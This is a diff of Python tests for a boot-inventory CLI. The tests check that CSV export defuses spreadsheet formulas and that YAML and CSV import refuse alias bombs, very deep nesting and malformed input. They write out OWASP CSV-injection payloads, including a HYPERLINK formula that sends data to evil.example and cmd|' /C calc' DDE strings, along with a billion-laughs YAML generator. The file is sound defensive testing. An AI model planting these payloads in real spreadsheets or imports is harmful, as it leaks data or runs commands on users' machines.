@@ -7,6 +7,8 @@ message``); all or nothing (one bad row and the inventory is as it was); and
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -14,6 +16,7 @@ import pytest
 
 from tests.cli.conftest import Cli, MakeCli
 from tests.cli.test_catalog import ed25519_key
+from tests.cli.test_dhcp import api_of
 
 RACK1 = ["--set", "name=rack1", "--set", "cidr=10.20.0.0/24", "--set", "gateway=10.20.0.1"]
 
@@ -391,3 +394,124 @@ def test_demo_loads_an_inventory_that_boots(runner: Cli) -> None:
     assert "\nkernel --name linux http://bootbrain.test/assets/debian-12/linux " in render.stdout
     efi = runner.run("render", "--mac", "52:54:00:00:a3:01", "--platform", "efi")
     assert "step rule, profile choose, rule efi-servers-get-menu" in efi.stderr
+
+
+# --- spreadsheet formulas (OWASP CSV injection) ----------------------------------------------
+
+FORMULAS = {
+    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "product": "+cmd|' /C calc'!A0",
+    "manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "serial": "-2+3+cmd|' /C calc'!A0",
+    "asset_tag": "'=already quoted",  # a ' an export adds must not eat this one
+    "board_serial": "'plain",  # a leading ' that guards nothing stays as it is
+}
+
+
+def test_csv_export_defuses_formulas_and_the_import_reads_them_back(make_cli: MakeCli) -> None:
+    first = make_cli("first", discovery=True)
+    fields = [a for k, v in FORMULAS.items() for a in (f"--{k.replace('_', '-')}", v)]
+    first.run("machine", "add", "--hostname", "typed", "--mac", "52:54:00:00:0f:01", *fields)
+    # A machine nobody typed in: it booted and reported its own SMBIOS strings.
+    with api_of(first) as api:
+        reported = {"manufacturer": '=HYPERLINK("http://evil.example")', "product": "@x"}
+        query = "&".join(f"{k}={v.encode().hex()}" for k, v in reported.items())
+        answer = api.client.get(f"/ipxe?mac=52-54-00-00-0f-02&{query}&platform=efi")
+        assert answer.status_code == 200
+    (discovered,) = [m for m in first.machines() if m["hostname"] is None]
+    assert first.machine(discovered["id"])["manufacturer"] == reported["manufacturer"]
+
+    exported = first.export("csv")
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    cells = [v for row in rows for v in row.values() if v]
+    armed = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert armed == []  # nothing a spreadsheet would run
+    typed = next(r for r in rows if r["hostname"] == "typed")
+    assert {k: typed[k] for k in FORMULAS} == {
+        "notes": "'" + FORMULAS["notes"],
+        "product": "'" + FORMULAS["product"],
+        "manufacturer": "'" + FORMULAS["manufacturer"],
+        "serial": "'" + FORMULAS["serial"],
+        "asset_tag": "''=already quoted",
+        "board_serial": "'plain",
+    }
+    other = next(r for r in rows if r["hostname"] == "")
+    assert (other["manufacturer"], other["product"]) == ("'" + reported["manufacturer"], "'@x")
+
+    machines = shown(first)
+    second = make_cli("second", fresh=True)
+    path = second.home / "machines.csv"
+    path.write_text(exported)
+    assert second.run("import", str(path)).stdout == "imported 2 machines\n"
+    assert second.export("csv") == exported
+    assert [{k: m[k] for k in FORMULAS} for m in shown(second)] == [
+        {k: m[k] for k in FORMULAS} for m in machines
+    ]
+    (typed_again,) = second.json("machine", "list", "--json", "--hostname", "typed")
+    assert typed_again["notes"] == FORMULAS["notes"]
+
+
+# --- a bounded parse ----------------------------------------------------------------------
+
+
+def laughs(levels: int) -> str:
+    """A "billion laughs" import: each level names the one before nine times."""
+    rows = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    for level in range(1, levels):
+        name, before = chr(ord("a") + level), chr(ord("a") + level - 1)
+        rows.append(f"{name}: &{name} [" + ", ".join([f"*{before}"] * 9) + "]")
+    return "machines:\n  - hostname: x\n    metadata:\n" + "".join(f"      {r}\n" for r in rows)
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "says"),
+    [
+        # Refused at the first alias, before anything is expanded: this one is 436 bytes
+        # that name 9**9 strings (the unbounded parse took minutes and gigabytes).
+        (laughs(9), 5, "aliases (*name) are not accepted"),
+        (laughs(2), 5, "aliases (*name) are not accepted"),
+        (
+            "machines:\n  - hostname: x\n    metadata:\n      deep: " + "[" * 5000 + "]" * 5000,
+            4,
+            "nested more than 64 levels deep",
+        ),
+        ("machines:\n  - " + "- " * 5000 + "x\n", 2, "nested more than 64 levels deep"),
+    ],
+    ids=["alias-bomb", "one-alias", "5000-deep-flow-list", "5000-deep-block-list"],
+)
+def test_a_yaml_file_that_would_parse_without_bound_is_a_problem(
+    site: Cli, text: str, line: int, says: str
+) -> None:
+    path = site.home / "inventory.yaml"
+    path.write_text(text)
+    err = site.fails("import", str(path))
+    assert problems(err, path) == [(line, "file")]
+    assert says in err
+    assert site.machines() == []
+
+
+def test_a_csv_that_is_not_utf8_names_the_line_of_the_first_bad_byte(site: Cli) -> None:
+    path = site.home / "machines.csv"
+    path.write_bytes(
+        "hostname,macs,manufacturer\n"
+        "node-1,52:54:00:00:00:01,ok\n"
+        "node-2,52:54:00:00:00:02,Société\n".encode("latin-1")
+    )
+    err = site.fails("import", str(path))
+    assert problems(err, path) == [(3, "file")]
+    assert "not UTF-8 (byte 0xe9 at column 30)" in err
+    assert site.machines() == []
+    # The same on standard input; and the byte-order mark a spreadsheet writes is no column.
+    err = site.fails("import", "-", "--format", "csv", input=path.read_bytes())  # type: ignore[arg-type]
+    assert "-:3: file: not UTF-8" in err
+    path.write_bytes(path.read_bytes().decode("latin-1").encode("utf-8-sig"))
+    assert site.run("import", str(path)).stdout == "imported 2 machines\n"
+    assert [m["manufacturer"] for m in site.machines()] == ["ok", "Société"]
+
+
+def test_a_malformed_csv_record_names_its_line(site: Cli) -> None:
+    path = site.home / "machines.csv"
+    path.write_text('hostname,notes\nnode-1,ok\nnode-2,"' + "x" * 200_000 + '"\n')
+    err = site.fails("import", str(path))
+    assert problems(err, path) == [(3, "file")]
+    assert "field larger than field limit" in err
